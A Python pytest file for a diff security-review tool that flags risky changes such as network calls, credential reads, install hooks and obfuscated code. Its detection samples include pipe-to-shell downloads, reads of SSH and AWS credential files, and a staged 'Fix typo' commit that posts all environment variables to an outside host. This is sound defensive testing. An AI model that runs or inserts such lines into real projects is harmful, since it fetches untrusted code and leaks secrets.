"""Risk evidence of the intent audit: each category recognised on real diffs (parsed by the
real parser, and one produced by git in a real repository), nothing where there is nothing,
the same result on every run, secrets redacted."""

from __future__ import annotations

from pathlib import Path

import pytest

from pytest_secreview.audit.evidence import (
    MAX_PER_FILE_CATEGORY,
    RiskEvidence,
    collect_evidence,
)
from pytest_secreview.audit.signals import Category
from pytest_secreview.diff.git import load_diff
from pytest_secreview.diff.model import Diff
from pytest_secreview.diff.parser import parse_diff_text
from tests.conftest import aws_key_id
from tests.gitutil import GitRepo


def _patch(path: str, added: list[str], removed: list[str] | None = None) -> str:
    removed = removed or []
    old = f"-1,{len(removed)}" if removed else "-0,0"
    new = f"+1,{len(added)}" if added else "+0,0"
    body = "".join(f"-{line}\n" for line in removed) + "".join(f"+{line}\n" for line in added)
    return (f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
            f"@@ {old} {new} @@\n{body}")


def _evidence(*patches: str) -> RiskEvidence:
    files = tuple(f for patch in patches for f in parse_diff_text(patch))
    return collect_evidence(Diff(base_sha="a" * 40, head_sha="b" * 40, files=files))


def _signals(evidence: RiskEvidence) -> set[tuple[str, str]]:
    return {(item.category.value, item.signal) for item in evidence.items}


BLOB = "QUJD" * 60

CASES: list[tuple[str, str, list[str], list[str], tuple[str, str]]] = [
    ("requests", "app/x.py", ["r = requests.post(URL, json=data)"], [],
     ("network", "HTTP client call")),
    ("urlopen", "app/x.py", ["urllib.request.urlopen(u)"], [], ("network", "URL opened")),
    ("socket", "app/x.py", ["s = socket.socket()"], [], ("network", "socket")),
    ("fetch_js", "web/a.js", ["fetch(`${host}/c`, {method: 'POST'})"], [],
     ("network", "HTTP request (JavaScript/Go/Java)")),
    ("curl", "scripts/s.sh", ["curl -s https://x.example | sh"], [],
     ("network", "download tool")),
    ("url_literal", "app/x.py", ['HOST = "https://collect.example.net/v1"'], [],
     ("network", "hard-coded URL or address")),
    ("subprocess", "app/x.py", ["subprocess.run(cmd, shell=True)"], [],
     ("subprocess", "process execution")),
    ("os_system", "app/x.py", ["os.system('id')"], [], ("subprocess", "process execution")),
    ("child_process", "a.js", ["const cp = require('child_process')"], [],
     ("subprocess", "process execution")),
    ("pipe_to_shell", "install.sh", ["wget -qO- x | bash"], [], ("subprocess", "shell pipe")),
    ("home", "app/x.py", ["p = os.path.expanduser('~/.aws/credentials')"], [],
     ("filesystem", "home directory")),
    ("ssh_dir", "app/x.py", ["open(home + '/.ssh/id_rsa')"], [],
     ("filesystem", "credential or system path")),
    ("environ", "app/x.py", ["token = os.environ['CI_TOKEN']"], [],
     ("environment", "environment variable read")),
    ("getenv", "app/x.py", ["k = os.getenv('K')"], [],
     ("environment", "environment variable read")),
    ("process_env", "a.js", ["send(process.env)"], [],
     ("environment", "environment variable read")),
    ("credential_name", "app/x.py", ["DB_PASSWORD = load()"], [],
     ("environment", "credential name")),
    ("ci_secret", ".github/workflows/ci.yml", ["  TOKEN: ${{ secrets.NPM }}"], [],
     ("environment", "secrets in CI")),
    ("hashlib", "app/x.py", ["h = hashlib.md5(b)"], [], ("crypto", "cryptography")),
    ("verify_false", "app/x.py", ["requests.get(u, verify=False)"], [],
     ("crypto", "TLS verification or weak algorithm")),
    ("login_required", "app/views.py", ["def admin():"], ["@login_required", "def admin():"],
     ("auth_removed", "authorization check removed")),
    ("has_perm", "app/views.py", [], ["    if not user.has_perm('x'): abort(403)"],
     ("auth_removed", "authorization check removed")),
    ("workflow", ".github/workflows/ci.yml", ["on: pull_request_target"], [],
     ("ci_workflow", "CI workflow changed")),
    ("gitlab", ".gitlab-ci.yml", ["script: make"], [], ("ci_workflow", "CI workflow changed")),
    ("setup_py", "setup.py", ["setup(name='x')"], [],
     ("install_hook", "setup.py runs at install, import or test time")),
    ("conftest", "tests/conftest.py", ["import os"], [],
     ("install_hook", "conftest.py runs at install, import or test time")),
    ("pth", "pkg/evil.pth", ["import os"], [],
     ("install_hook", "evil.pth runs at install, import or test time")),
    ("postinstall", "package.json", ['    "postinstall": "node x.js",'], [],
     ("install_hook", "install script")),
    ("requirement", "requirements.txt", ["leftpad-py==1.0.2"], [],
     ("dependency", "dependency added")),
    ("npm_dep", "package.json", ['    "left-pad": "^1.3.0",'], [],
     ("dependency", "dependency added")),
    ("git_dep", "requirements.txt", ["git+https://example.com/x.git#egg=x"], [],
     ("dependency", "dependency from a URL or VCS")),
    ("lockfile", "package-lock.json", ['  "x": 1'], [],
     ("dependency", "dependency lock file changed")),
    ("blob", "app/x.py", [f'PAYLOAD = "{BLOB}"'], [], ("obfuscation", "long encoded blob")),
    ("b64decode", "app/x.py", ["code = base64.b64decode(PAYLOAD)"], [],
     ("obfuscation", "decoding at run time")),
    ("exec_built", "app/x.py", ["exec(code)"], [], ("obfuscation", "eval/exec of a built string")),
    ("eval_js", "a.js", ["eval(atob(p))"], [], ("obfuscation", "eval/exec of a built string")),
    ("chr_chain", "app/x.py", ["n = chr(111)+chr(115)+chr(46)+chr(115)"], [],
     ("obfuscation", "character-code string building")),
    ("minified", "static/app.js", ["!function(e){return e.a+e.b};" * 30], [],
     ("obfuscation", "minified or packed code")),
]


@pytest.mark.parametrize(
    ("path", "added", "removed", "expected"),
    [case[1:] for case in CASES], ids=[case[0] for case in CASES],
)
def test_each_signal_is_recognised(
    path: str, added: list[str], removed: list[str], expected: tuple[str, str]
) -> None:
    evidence = _evidence(_patch(path, added, removed))
    assert expected in _signals(evidence)
    assert expected[0] in evidence.categories


QUIET: list[tuple[str, str, list[str], list[str]]] = [
    ("typo_fix", "README.md", ["Install the package with pip."], ["Install the pakage with pip."]),
    ("url_in_docs", "docs/index.md", ["See https://example.com/guide for details."], []),
    ("moved_decorator", "app/views.py", ["@login_required"], ["@login_required"]),
    ("plain_code", "app/calc.py", ["def add(a, b):", "    return a + b"], []),
    ("literal_eval_arg", "app/x.py", ['eval("1 + 1")'], []),
]


@pytest.mark.parametrize(
    ("path", "added", "removed"), [case[1:] for case in QUIET], ids=[case[0] for case in QUIET]
)
def test_no_evidence_where_there_is_none(path: str, added: list[str], removed: list[str]) -> None:
    evidence = _evidence(_patch(path, added, removed))
    assert evidence.items == ()
    assert evidence.describe() == "No risk signals in the diff."


def test_removed_line_points_at_the_head_location() -> None:
    evidence = _evidence(
        "diff --git a/v.py b/v.py\n--- a/v.py\n+++ b/v.py\n"
        "@@ -1,3 +1,2 @@\n @app.route('/x')\n-@login_required\n def x():\n"
    )
    (item,) = evidence.items
    assert (item.category, item.path, item.line, item.side, item.text) == (
        Category.AUTH_REMOVED, "v.py", 2, "removed", "@login_required")


def test_matched_secrets_are_redacted() -> None:
    evidence = _evidence(_patch("app/x.py", [f'AWS_ACCESS_KEY_ID = "{aws_key_id()}"']))
    assert {("environment", "credential name")} < _signals(evidence)
    assert any(s.startswith("hard-coded secret (") for _, s in _signals(evidence))
    for item in evidence.items:
        assert aws_key_id() not in item.text
    assert aws_key_id() not in str(evidence.to_json())


def test_capped_per_file_and_category_with_honest_counts() -> None:
    lines = [f"v{i} = os.getenv('V{i}')" for i in range(40)]
    evidence = _evidence(_patch("app/x.py", lines))
    env = [item for item in evidence.items if item.category is Category.ENVIRONMENT]
    assert len(env) == MAX_PER_FILE_CATEGORY
    assert dict(evidence.counts)["environment"] == 40
    assert evidence.truncated == 40 - MAX_PER_FILE_CATEGORY
    assert "more signal(s) not listed" in evidence.describe()


def test_fix_typo_pr_with_exfiltration_in_a_real_repository(tmp_path: Path) -> None:
    """The issue's headline case, with no model: the evidence names the network call and the
    environment read at their lines, and is identical on a second run."""
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "# Service\n\nInstal it with pip.\n")
    repo.write("app/__init__.py", "import os\n\nVERSION = '1.0'\n")
    repo.commit("base")
    repo.branch("pr")
    repo.write("README.md", "# Service\n\nInstall it with pip.\n")
    repo.write("app/__init__.py", (
        "import os\n\nimport requests\n\nVERSION = '1.0'\n"
        "requests.post('https://telemetry.example.net/c', json=dict(os.environ), timeout=3)\n"
    ))
    repo.commit("Fix typo in README")
    diff = load_diff(repo.path, "main")
    evidence = collect_evidence(diff)
    found = {(i.category.value, i.signal, i.path, i.line) for i in evidence.items}
    assert ("network", "HTTP client call", "app/__init__.py", 6) in found
    assert ("environment", "environment variable read", "app/__init__.py", 6) in found
    assert {"network", "environment"} <= set(evidence.categories)
    assert not any(i.path == "README.md" for i in evidence.items)
    assert collect_evidence(load_diff(repo.path, "main")).to_json() == evidence.to_json()
    lines = evidence.describe().splitlines()
    assert any(
        line.startswith("app/__init__.py:6 [network] HTTP client call: requests.post(")
        for line in lines
    )
